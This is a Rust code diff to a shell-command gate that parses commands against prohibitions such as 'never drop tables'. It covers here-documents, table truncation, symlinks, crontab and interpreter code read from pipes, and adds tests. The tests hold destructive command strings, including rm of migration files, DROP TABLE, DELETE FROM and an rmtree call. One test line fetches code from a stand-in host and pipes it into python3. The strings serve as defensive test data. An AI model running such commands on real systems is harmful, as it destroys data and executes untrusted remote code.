@@ -18,7 +18,9 @@
 //! - Redirections: `>`, `>>`, `>|`, `<>`, `&>`, `&>>`, `N>FILE` and `>&FILE` write FILE
 //!   (nothing for `/dev/null`, `/dev/stdout`, `/dev/stderr`, `/dev/tty`, `/dev/zero`,
 //!   `/dev/fd/N`); `<`, `N>&M`, `>&-` have no effect; `<<< WORD` feeds WORD to the command's
-//!   standard input; a here-document (`<<`) makes the line unparseable.
+//!   standard input; a here-document (`<<EOF` ... `EOF`) is read as the here-string of its
+//!   body (quoted delimiter: literal; unquoted: its substitutions run); one whose delimiter
+//!   line never comes makes the line unparseable.
 //! - Prefixes that run the next word as the command: leading `NAME=value` assignments, `sudo`
 //!   and `doas` (with their options), `env` (options, `NAME=value`; `-C DIR` moves the working
 //!   directory, `-S STRING` is parsed as a line), `nohup`, `time`, `nice`, `ionice`, `stdbuf`,
@@ -275,9 +277,10 @@ const SQL_VERBS: &[&str] = &["drop", "truncate", "alter", "delete", "rename", "l
 /// Verbs: delete, remove, rm, erase, wipe, purge, unlink, destroy, shred forbid Delete, Discard
 /// and Move of paths (SqlDelete, SqlDrop, SqlTruncate of tables); touch, modify, change, edit,
 /// write, overwrite, alter, update, create, replace forbid Write, Delete, Move and Discard
-/// (every SQL operation); move, rename, mv forbid Move (SqlAlter); drop forbids SqlDrop (and
-/// Delete of a named path); truncate forbids SqlTruncate (Write of a named path); "drop table",
-/// "alter table", "delete from" forbid only their SQL operation; reset, discard, revert forbid
+/// (every SQL operation); move, rename, mv forbid Move (SqlAlter); drop and "drop table"
+/// forbid SqlDrop and SqlTruncate (emptying a table loses what dropping it would; drop also
+/// Delete of a named path); truncate forbids SqlTruncate (Write of a named path); "alter
+/// table", "delete from" forbid only their SQL operation; reset, discard, revert forbid
 /// Discard; push forbids Push ("force-push", "force push", "push --force": only a forced one).
 /// SQL operations are left out when the sentence names paths and no table word, path
 /// operations when it names tables or SQL words and no path. A path and no known verb ("hands
@@ -547,7 +550,9 @@ pub fn forbidden(prohibition: &str) -> Forbidden {
                     add(FILE_LOSS);
                 }
                 if sql_ok {
-                    add(&[Op::SqlDrop]);
+                    // Emptying a table loses what dropping it would (`TRUNCATE users`, a
+                    // `DELETE FROM users` with no condition).
+                    add(&[Op::SqlDrop, Op::SqlTruncate]);
                 }
             }
             Class::Truncate => {
@@ -563,7 +568,7 @@ pub fn forbidden(prohibition: &str) -> Forbidden {
                     add(&[Op::Discard]);
                 }
             }
-            Class::DropTable => add(&[Op::SqlDrop]),
+            Class::DropTable => add(&[Op::SqlDrop, Op::SqlTruncate]),
             Class::AlterTable => add(&[Op::SqlAlter]),
             Class::DeleteFrom => add(&[Op::SqlDelete]),
             Class::Push => add(&[Op::Push]),
@@ -1504,9 +1509,13 @@ impl Cx<'_> {
             let t = match t {
                 Target::Path(p) | Target::Glob(p) if !out.links.is_empty() => {
                     let glob = has_glob(&p);
+                    // The link itself (`rm /tmp/p`) is the link; through it (`/tmp/p/`,
+                    // `/tmp/p/x`) is what it points to.
+                    let slash = w.text.ends_with('/');
                     let through = out.links.iter().find_map(|(link, to)| {
                         let rest = p.strip_prefix(link.as_str())?;
-                        (rest.is_empty() || rest.starts_with('/')).then(|| format!("{to}{rest}"))
+                        (rest.is_empty() && slash || rest.starts_with('/'))
+                            .then(|| format!("{to}{rest}"))
                     });
                     let p = through.unwrap_or(p);
                     if glob {
@@ -1527,6 +1536,9 @@ fn parse_in(line: &str, cwd: Cwd, depth: usize, out: &mut Acc) {
         out.p.unparseable = true;
         return;
     }
+    // A here-document is read as the here-string of its body (`opaque::heredocs_as_strings`).
+    let rewritten = opaque::heredocs_as_strings(line);
+    let line = rewritten.as_deref().unwrap_or(line);
     let first = line
         .split(|c: char| c.is_whitespace() || c == '(' || c == ';')
         .find(|w| !w.is_empty())
@@ -1721,7 +1733,7 @@ fn command(
             );
             return None;
         }
-        if w.glob_at.is_some() {
+        if w.glob_at.is_some() && !matches!(w.text.as_str(), "[" | "[[") {
             // `/bin/r[m]`: the shell picks the command from the files that match.
             out.p.unknown.push(text.to_string());
             out.opaque(
@@ -2169,6 +2181,31 @@ fn run(
             }
             false
         }
+        // `crontab FILE` or `crontab -` installs jobs that run later; `-l` lists them.
+        "crontab" => {
+            if !args.iter().any(|a| a.text == "-l") {
+                out.opaque(
+                    cx.text,
+                    "it installs jobs that run later, which the gate does not read",
+                );
+            }
+            true
+        }
+        // `rails runner CODE` runs Ruby code in the application.
+        "rails"
+            if args
+                .first()
+                .is_some_and(|a| a.text == "runner" || a.text == "r") =>
+        {
+            let code = args.get(1).map(|a| a.text.as_str()).unwrap_or_default();
+            if !opaque::plainly_read_only(code) {
+                out.opaque(
+                    cx.text,
+                    "it runs inline Ruby code, which the gate does not read",
+                );
+            }
+            true
+        }
         "at" | "batch" => match cx.stdin {
             Stdin::Text(t) => {
                 out.p.known.push(cx.text.to_string());
@@ -2180,14 +2217,33 @@ fn run(
                 false
             }
         },
-        n if opaque::inline_code(n, &texts(args)).is_some() => {
+        n if opaque::language(n).is_some() => {
             let texts = texts(args);
-            match opaque::inline_code(n, &texts) {
-                Some((_, code)) if opaque::plainly_read_only(code) => true,
-                Some((lang, _)) => {
+            let lang = opaque::language(n).unwrap_or("interpreter");
+            // Inline code, or code on standard input (no script named: `python3 -`).
+            let from_stdin = texts.iter().all(|a| a.starts_with('-'));
+            let code = match opaque::inline_code(n, &texts) {
+                Some((_, c)) => Some(Some(c.to_string())),
+                None if from_stdin => match cx.stdin {
+                    Stdin::Text(t) => Some(Some(t.clone())),
+                    Stdin::Unknown => Some(None),
+                    Stdin::Tty => None,
+                },
+                None => None,
+            };
+            match code {
+                Some(Some(c)) if opaque::plainly_read_only(&c) => true,
+                Some(Some(_)) => {
                     out.opaque(
                         cx.text,
                         &format!("it runs inline {lang} code, which the gate does not read"),
+                    );
+                    true
+                }
+                Some(None) => {
+                    out.opaque(
+                        cx.text,
+                        &format!("it runs {lang} code it reads from a pipe, built at run time"),
                     );
                     true
                 }
@@ -2217,6 +2273,12 @@ fn run(
             }
             return None;
         }
+        // printf's format fills its `%` places from the words after it: what it prints is not
+        // its words as written, so its output is unknown.
+        "printf" if args.first().is_some_and(|f| f.text.contains('%')) => {
+            out.p.known.push(cx.text.to_string());
+            return None;
+        }
         "echo" | "printf" => {
             out.p.known.push(cx.text.to_string());
             let said: Vec<&str> = args
@@ -2224,7 +2286,14 @@ fn run(
                 .filter(|a| !(name == "echo" && matches!(a.text.as_str(), "-n" | "-e" | "-E")))
                 .map(|a| a.text.as_str())
                 .collect();
-            return Some(said.join(" "));
+            let said = said.join(" ");
+            // printf (and `echo -e`) turn `\n` and `\t` into line breaks and tabs.
+            let escapes = name == "printf" || args.first().is_some_and(|a| a.text == "-e");
+            return Some(if escapes {
+                said.replace("\\n", "\n").replace("\\t", "\t")
+            } else {
+                said
+            });
         }
         n => READ_ONLY.contains(&n),
     };
@@ -2235,7 +2304,15 @@ fn run(
 fn in_place(args: &[String]) -> bool {
     args.iter()
         .take_while(|a| a.starts_with('-') && !a.starts_with("--"))
-        .any(|a| a.contains('i'))
+        .any(|a| {
+            // `-i`, `-pi`, `-i.bak`: switches without arguments, then `i`.
+            let flags = &a[1..];
+            flags.find('i').is_some_and(|at| {
+                flags[..at]
+                    .chars()
+                    .all(|c| matches!(c, 'p' | 'n' | 'l' | 'a' | 's' | 'w' | 'W' | 'X' | 'T'))
+            })
+        })
 }
 
 /// The texts of a command's words.
@@ -2829,6 +2906,10 @@ fn rsync(args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) {
         ],
         false,
     );
+    // A dry run (`-n`, `--dry-run`) changes nothing.
+    if s.has("n") || s.has("dry-run") {
+        return;
+    }
     let recursive = ["r", "a", "recursive", "archive"].iter().any(|n| s.has(n));
     let delete = s
         .opts
@@ -3625,6 +3706,7 @@ fn shell(args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> bool {
 
 /// psql, mysql, mariadb, sqlite3: the SQL on their line or their echoed standard input.
 fn sql_client(name: &str, args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> bool {
+    let mut built = false;
     let mut sql: Vec<String> = Vec::new();
     match name {
         "psql" => {
@@ -3651,7 +3733,10 @@ fn sql_client(name: &str, args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> b
             );
             for o in &s.opts {
                 match (o.name.as_str(), &o.value) {
-                    ("c" | "command", Some(v)) => sql.push(v.text.clone()),
+                    ("c" | "command", Some(v)) => {
+                        built |= v.dynamic;
+                        sql.push(v.text.clone());
+                    }
                     ("o" | "output" | "L" | "log-file", Some(v)) => {
                         cx.eff(out, Op::Write, cwd, v);
                     }
@@ -3666,12 +3751,15 @@ fn sql_client(name: &str, args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> b
                 let t = w.text.as_str();
                 if t == "-e" || t == "--execute" {
                     if let Some(v) = args.get(k) {
+                        built |= v.dynamic;
                         sql.push(v.text.clone());
                     }
                     k += 1;
                 } else if let Some(v) = t.strip_prefix("--execute=") {
+                    built |= w.dynamic;
                     sql.push(v.to_string());
                 } else if let Some(v) = t.strip_prefix("-e") {
+                    built |= w.dynamic;
                     sql.push(v.to_string());
                 } else if matches!(t, "-u" | "-h" | "-P" | "-D" | "-S") {
                     k += 1;
@@ -3686,6 +3774,7 @@ fn sql_client(name: &str, args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> b
                 let t = w.text.as_str();
                 if t == "-cmd" {
                     if let Some(v) = args.get(k) {
+                        built |= v.dynamic;
                         sql.push(v.text.clone());
                     }
                     k += 1;
@@ -3707,13 +3796,24 @@ fn sql_client(name: &str, args: &[Word], cwd: &Cwd, cx: &Cx, out: &mut Acc) -> b
                     ops.push(w);
                 }
             }
+            built |= ops.iter().skip(1).any(|w| w.dynamic);
             sql.extend(ops.iter().skip(1).map(|w| w.text.clone()));
         }
+    }
+    if built {
+        out.opaque(cx.text, "it runs SQL built at run time");
     }
     if sql.is_empty() {
         match cx.stdin {
             Stdin::Text(t) => sql.push(t.clone()),
-            _ => return false,
+            Stdin::Unknown => {
+                out.opaque(
+                    cx.text,
+                    "it runs SQL it reads from a pipe, which the line does not show",
+                );
+                return true;
+            }
+            Stdin::Tty => return false,
         }
     }
     let mut understood = true;
@@ -3758,12 +3858,44 @@ enum Stmt {
 /// SQL is unknown.
 fn read_sql(text: &str, top: bool) -> SqlRead {
     let mut r = SqlRead::default();
+    // Tables renamed by an earlier statement: (new name, old name). A statement on the new
+    // name is one on the table the old name named (`ALTER TABLE users RENAME TO u; DROP TABLE
+    // u` drops users).
+    let mut renamed: Vec<(String, String)> = Vec::new();
     for (k, st) in split_sql(text).into_iter().enumerate() {
         let toks = sql_tokens(&st);
+        let lower: Vec<String> = toks.iter().map(|t| t.to_ascii_lowercase()).collect();
+        let pos = |w: &str| lower.iter().position(|t| t == w);
+        if let (Some(r0), Some(to)) = (pos("rename"), pos("to")) {
+            let old = match (pos("table"), lower.first().map(String::as_str)) {
+                (Some(t), Some("alter")) => lower.get(t + 1),
+                (Some(t), Some("rename")) if t == r0 + 1 => lower.get(t + 1),
+                _ => None,
+            };
+            if let (Some(old), Some(new)) = (old, lower.get(to + 1)) {
+                let old = renamed
+                    .iter()
+                    .find(|(n, _)| n == old)
+                    .map_or(old.clone(), |(_, o)| o.clone());
+                renamed.push((new.trim_end_matches(';').to_string(), old));
+            }
+        }
         match statement(&toks) {
-            Stmt::Effects(v) => r
-                .effects
-                .extend(v.into_iter().map(|(o, t)| (o, t, st.clone()))),
+            Stmt::Effects(v) => {
+                for (o, t) in v {
+                    let was = t.as_ref().and_then(|t| {
+                        let t = t.to_ascii_lowercase();
+                        renamed
+                            .iter()
+                            .find(|(n, _)| *n == t)
+                            .map(|(_, o)| o.clone())
+                    });
+                    if let Some(old) = was {
+                        r.effects.push((o, Some(old), st.clone()));
+                    }
+                    r.effects.push((o, t, st.clone()));
+                }
+            }
             Stmt::Quiet => {}
             Stmt::Other => r.unknown.push(st.clone()),
             Stmt::NotSql => {
@@ -3990,8 +4122,26 @@ fn statement(toks: &[String]) -> Stmt {
             } else {
                 None
             };
+            // With no condition, or one always true (`WHERE 1=1`, `WHERE true`), it empties
+            // the table: a truncation too.
+            let lower: Vec<String> = toks.iter().map(|t| t.to_ascii_lowercase()).collect();
+            let cond: Vec<&str> = match lower.iter().position(|t| t == "where") {
+                Some(w) => lower[w + 1..]
+                    .iter()
+                    .map(|t| t.trim_end_matches(';'))
+                    .collect(),
+                None => Vec::new(),
+            };
+            let all =
+                cond.is_empty() || matches!(cond.as_slice(), ["1=1"] | ["1", "=", "1"] | ["true"]);
             match name {
-                Some(n) if is_sql_name(n) => Stmt::Effects(vec![(Op::SqlDelete, Some(n.clone()))]),
+                Some(n) if is_sql_name(n) => {
+                    let mut v = vec![(Op::SqlDelete, Some(n.clone()))];
+                    if all {
+                        v.push((Op::SqlTruncate, Some(n.clone())));
+                    }
+                    Stmt::Effects(v)
+                }
                 _ => Stmt::NotSql,
             }
         }
@@ -5199,7 +5349,12 @@ mod tests {
         admit(p, "rm orders.sql");
         let q = "never drop tables";
         refuse(q, "DROP TABLE x");
-        admit(q, "TRUNCATE TABLE x");
+        // Emptying a table loses what dropping it would (issue 37); a row-filtered delete
+        // does not.
+        refuse(q, "TRUNCATE TABLE x");
+        refuse(q, "DELETE FROM x");
+        refuse(q, "DELETE FROM x WHERE 1=1");
+        admit(q, "DELETE FROM x WHERE id = 1");
         let d = "never run DELETE FROM orders";
         refuse(d, "DELETE FROM orders WHERE 1=1");
         admit(d, "DELETE FROM customers");
@@ -5397,12 +5552,38 @@ mod tests {
     }
 
     #[test]
+    fn here_documents_are_their_commands_standard_input() {
+        // Code for a shell, or substitutions an unquoted delimiter lets run: read.
+        refuse(TOUCH, "sh <<'EOF'\nrm shop/migrations/a.py\nEOF");
+        refuse(TOUCH, "bash -s <<-EOF\n\trm shop/migrations/a.py\n\tEOF");
+        refuse(TOUCH, "cat <<EOF\n$(rm shop/migrations/a.py)\nEOF");
+        refuse(TOUCH, "cat <<EOF > shop/migrations/0031.py\nx = 1\nEOF");
+        // Data for cat or a commit message: no effect, however it reads.
+        admit(TOUCH, "cat <<'EOF'\n$(rm shop/migrations/a.py)\nEOF");
+        admit(
+            TOUCH,
+            "git commit -m \"$(cat <<'EOF'\nstop the rm of shop/migrations/a.py\n\nCo-Authored-By: x\nEOF\n)\"",
+        );
+        admit(TOUCH, "python3 - <<'PYEOF'\nprint(1)\nPYEOF\nls shop");
+        let parsed = parse("python3 - <<'PYEOF'\nimport shutil; shutil.rmtree('x')\nPYEOF");
+        assert_eq!(parsed.opaque.len(), 1, "{parsed:?}");
+        assert_eq!(
+            parse("curl -s https://x.example/i.py | python3")
+                .opaque
+                .len(),
+            1
+        );
+        assert!(!parse("cat <<'EOF'\nrm x\nEOF").unparseable);
+    }
+
+    #[test]
     fn unparseable_risky_lines_fail_closed() {
         let parsed = parse("rm 'unclosed");
         assert!(parsed.unparseable && parsed.risky);
         refuse(TOUCH, "rm 'unclosed");
         refuse("do not push to main", "rm 'unclosed");
-        refuse(TOUCH, "cat x <<EOF\nrm shop/migrations/a.py\nEOF");
+        // A here-document whose delimiter never comes.
+        refuse(TOUCH, "cat x <<EOF\nrm shop/migrations/a.py");
         let quiet = parse("ls 'unclosed");
         assert!(quiet.unparseable && !quiet.risky);
         admit(TOUCH, "ls 'unclosed");
@@ -5638,10 +5819,10 @@ mod tests {
         assert_eq!(f.paths, vec!["shop/migrations".to_string()]);
         assert!(f.ops.contains(&Op::Write));
         let f = forbidden("never run DROP TABLE on the orders database");
-        assert_eq!(f.ops, vec![Op::SqlDrop]);
+        assert_eq!(f.ops, vec![Op::SqlDrop, Op::SqlTruncate]);
         assert!(f.tables.is_empty() && f.paths.is_empty() && f.commands.is_empty());
         let f = forbidden("never drop tables");
-        assert_eq!(f.ops, vec![Op::SqlDrop]);
+        assert_eq!(f.ops, vec![Op::SqlDrop, Op::SqlTruncate]);
         let f = forbidden("do not push to main");
         assert_eq!(
             (f.ops.clone(), f.branches.clone(), f.force_only),
